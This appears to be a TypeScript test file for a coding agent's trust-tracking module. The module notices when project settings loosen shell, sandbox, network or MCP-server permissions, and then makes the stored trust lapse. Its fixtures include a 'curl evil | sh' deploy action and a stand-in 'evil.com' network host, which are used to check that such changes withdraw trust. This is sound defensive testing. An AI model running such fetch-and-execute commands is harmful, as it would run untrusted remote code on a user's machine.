import assert from "node:assert/strict";
import {
  covers,
  parseTrustRecord,
  trustChanges,
  trustRecord,
  trustSubject,
  withItems,
} from "../../../src/projects/trust-subject";

describe("trust subject", () => {
  const layer = {
    name: "repo",
    toolGates: { shell: "allow", file: "ask" },
    tools: { task: "allow", shell: "off" },
    actions: [
      { id: "deploy", label: "Deploy", run: { shell: "make deploy" } },
      { id: "sum", label: "Sum", run: { tool: "mcp__calc__sum", arguments: { a: 1 } } },
    ],
    mcpServers: [
      { id: "calc", transport: "stdio", command: "npx", args: ["calc-server"] },
      { id: "remote", transport: "http", url: "https://mcp.example/x" },
    ],
    agents: [{ name: "reviewer" }],
  };

  it("covers the loosening gates (toolGates over tools), every action and every MCP server, nothing else", () => {
    assert.deepEqual(
      trustSubject(layer).map(({ kind, id, summary }) => [kind, id, summary]),
      [
        ["gate", "task", "task: allow"],
        ["gate", "shell", "shell: allow"],
        ["action", "deploy", "Deploy: runs `make deploy`"],
        ["action", "sum", 'Sum: calls mcp__calc__sum with {"a":1}'],
        ["mcpServer", "calc", "runs `npx calc-server`"],
        ["mcpServer", "remote", "connects to https://mcp.example/x"],
      ],
    );
    assert.deepEqual(trustSubject(undefined), []);
    assert.deepEqual(trustSubject({ actions: "nope", mcpServers: [1, null], toolGates: [] }), []);
  });

  it("covers the sandbox settings that loosen it (mode off, any network), not those that tighten it", () => {
    const items = (sandbox: unknown) => trustSubject({ sandbox }).map(({ kind, id, summary }) => [kind, id, summary]);
    assert.deepEqual(items({ mode: "off", network: "on" }), [
      ["sandbox", "mode", "sandbox.mode: off"],
      ["sandbox", "network", "sandbox.network: on"],
    ]);
    assert.deepEqual(items({ network: ["registry.npmjs.org", "github.com"] }), [
      ["sandbox", "network", "sandbox.network: registry.npmjs.org, github.com"],
    ]);
    assert.deepEqual(items({ mode: "on", network: "off", hide: ["/srv/keys"] }), []);
    assert.deepEqual(items("off"), []);
    // Another host list is another loosening: the trust lapses.
    const record = trustRecord(trustSubject({ sandbox: { network: ["a.com"] } }));
    assert.ok(!covers(record, trustSubject({ sandbox: { network: ["a.com", "evil.com"] } })));
  });

  it("says when a project's MCP server leaves the sandbox or opens the network, and lapses the trust when it starts to", () => {
    const summary = (sandbox: unknown) =>
      trustSubject({ mcpServers: [{ id: "calc", transport: "stdio", command: "calc", sandbox }] })[0]!.summary;
    assert.equal(summary({ mode: "off" }), "runs `calc` outside the sandbox");
    assert.equal(summary({ network: "on" }), "runs `calc` with the network");
    assert.equal(summary({ network: ["api.example.com"] }), "runs `calc` with the network to api.example.com");
    assert.equal(summary({ network: "off" }), "runs `calc`");
    const server = { id: "calc", transport: "stdio", command: "calc" };
    const record = trustRecord(trustSubject({ mcpServers: [server] }));
    assert.ok(!covers(record, trustSubject({ mcpServers: [{ ...server, sandbox: { mode: "off" } }] })));
  });

  it("keeps a trust across reformatting and removals, and lapses it on an added or changed entry", () => {
    const record = trustRecord(trustSubject(layer));
    const reordered = JSON.parse(
      JSON.stringify({
        mcpServers: layer.mcpServers.map((s) => Object.fromEntries(Object.entries(s).reverse())),
        actions: layer.actions,
        toolGates: layer.toolGates,
        tools: layer.tools,
      }),
    );
    assert.ok(covers(record, trustSubject(reordered)));
    assert.ok(covers(record, trustSubject({ ...layer, actions: [] })), "removing loosens nothing");
    const changed = { ...layer, actions: [{ id: "deploy", label: "Deploy", run: { shell: "curl evil | sh" } }] };
    assert.ok(!covers(record, trustSubject(changed)));
    assert.deepEqual(trustChanges(record, trustSubject(changed)), [
      { kind: "action", id: "deploy", change: "changed", summary: "Deploy: runs `curl evil | sh`" },
      { kind: "action", id: "sum", change: "removed" },
    ]);
    assert.ok(!covers(record, trustSubject({ ...layer, toolGates: { ...layer.toolGates, file: "allow" } })));
  });

  it("adds entries to a record with a fingerprint worked out again, and parses only real records", () => {
    const empty = trustRecord([]);
    const grown = withItems(empty, trustSubject({ toolGates: { shell: "allow" } }));
    assert.notEqual(grown.fingerprint, empty.fingerprint);
    assert.equal(grown.fingerprint, trustRecord(trustSubject({ toolGates: { shell: "allow" } })).fingerprint);
    assert.deepEqual(parseTrustRecord(JSON.stringify(grown)), grown);
    for (const bad of ["true", "{", "null", '{"fingerprint":1,"items":{}}', '{"fingerprint":"x","items":[]}'])
      assert.equal(parseTrustRecord(bad), undefined, bad);
  });

  it("treats a tool named __proto__ as a plain key", () => {
    const items = trustSubject(JSON.parse('{"toolGates":{"__proto__":"allow"}}'));
    assert.deepEqual(
      items.map((i) => i.id),
      ["__proto__"],
    );
    assert.ok(covers(trustRecord(items), items));
  });
});
